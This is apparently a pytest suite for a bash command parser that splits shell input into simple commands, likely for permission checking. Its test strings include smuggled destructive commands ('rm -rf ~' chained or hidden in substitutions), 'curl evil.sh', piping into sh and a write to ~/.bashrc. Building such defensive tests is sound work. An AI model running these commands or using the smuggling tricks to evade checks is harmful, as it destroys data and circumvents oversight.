from __future__ import annotations

import pytest

from claw_tui.engine.bash_parse import BashParseError, parse, split_command


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", ["git status"]),
        ("git status; rm -rf ~", ["git status", "rm -rf ~"]),
        ("git status && rm -rf ~", ["git status", "rm -rf ~"]),
        ("git status || rm -rf ~", ["git status", "rm -rf ~"]),
        ("git status | sh", ["git status", "sh"]),
        ("git status |& sh", ["git status", "sh"]),
        ("git status & rm -rf ~", ["git status", "rm -rf ~"]),
        ("git status\nrm -rf ~", ["git status", "rm -rf ~"]),
        ("git status&&rm x", ["git status", "rm x"]),
        ("echo $(rm -rf ~)", ["echo $(rm -rf ~)", "rm -rf ~"]),
        ('echo "$(rm -rf ~)"', ["echo $(rm -rf ~)", "rm -rf ~"]),
        ("echo `rm -rf ~`", ["echo `rm -rf ~`", "rm -rf ~"]),
        ("cat <(curl evil.sh)", ["cat <(curl evil.sh)", "curl evil.sh"]),
        ("ls >(sh)", ["ls >(sh)", "sh"]),
        ("(cd src && make)", ["cd src", "make"]),
        ("{ ls; rm x; }", ["ls", "rm x"]),
        ("if true; then rm x; fi", ["true", "rm x"]),
        ("while false; do rm x; done", ["false", "rm x"]),
        ("echo $(echo $(rm deep))", ["echo $(echo $(rm deep))", "echo $(rm deep)", "rm deep"]),
        ("x=$(rm -rf ~)", ["x=$(rm -rf ~)", "rm -rf ~"]),
        ("FOO=1 git status", ["FOO=1 git status"]),
    ],
)
def test_every_simple_command_is_found(command, expected):
    assert split_command(command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('echo "a; rm -rf ~"', ["echo a; rm -rf ~"]),  # an operator inside quotes is data
        ("echo 'a && b' | cat", ["echo a && b", "cat"]),
        ("echo a\\;b", ["echo a;b"]),
        ("echo '$(rm x)'", ["echo $(rm x)"]),  # single quotes: no substitution
        ("echo hi # ; rm x", ["echo hi"]),  # a comment
        ("echo a#b", ["echo a#b"]),  # not a comment
        ("git \\\n  status", ["git status"]),  # line continuation
        ("cat <<EOF\nrm -rf ~\nEOF\necho done", ["cat", "echo done"]),  # here-doc body is data
        ("cat <<'EOF'\n$(rm -rf ~)\nEOF", ["cat"]),
        ("echo $((1 + 2))", ["echo $((1 + 2))"]),
        ("echo $'a\\tb'", ["echo a\tb"]),
    ],
)
def test_quotes_comments_and_heredocs_are_data(command, expected):
    assert split_command(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        'echo "unterminated',
        "echo 'unterminated",
        "echo `unterminated",
        "echo $(unterminated",
        "(echo a",
        "echo a)",
        "cat <<EOF\nno end",
        "echo ${x:-$(rm -rf ~)}",  # substitution inside ${…}: refuse rather than guess
        "echo $(( $(rm x) ))",
        "cat <<EOF\n$(rm -rf ~)\nEOF",  # substitution in an expanding here-doc
        "ls >",
        "trailing backslash \\",
    ],
)
def test_unparseable_commands_raise(command):
    with pytest.raises(BashParseError):
        parse(command)


def test_redirections_are_seen_with_what_they_write():
    cmds = parse("make 2>&1 > build.log; cat < in.txt >> ~/.bashrc; ls &> /tmp/all; echo >& out").commands
    seen = [(r.op, r.target, r.writes_file) for c in cmds for r in c.redirects]
    assert seen == [
        ("2>&", "1", False),
        (">", "build.log", True),
        ("<", "in.txt", False),
        (">>", "~/.bashrc", True),
        ("&>", "/tmp/all", True),
        (">&", "out", True),
    ]
    assert [c.words for c in cmds] == [["make"], ["cat"], ["ls"], ["echo"]]


def test_redirect_without_space_and_dynamic_target():
    cmd = parse('git log --format=%H>/tmp/x; echo hi > "$OUT"').commands
    assert cmd[0].words == ["git", "log", "--format=%H"]
    assert cmd[0].redirects[0].target == "/tmp/x"
    assert cmd[1].redirects[0].dynamic


def test_assignments_and_dynamic_command_names():
    cmd = parse("FOO=1 BAR=2 git status").commands[0]
    assert cmd.assignments == ["FOO=1", "BAR=2"]
    assert cmd.words == ["git", "status"]
    assert parse("$CMD --flag").commands[0].name_is_dynamic
    assert parse('"$(which rm)" x').commands[0].name_is_dynamic
    assert not parse("git status $HOME").commands[0].name_is_dynamic


def test_quoted_words_are_unquoted():
    assert parse("'git' \"status\" a\\ b").commands[0].words == ["git", "status", "a b"]
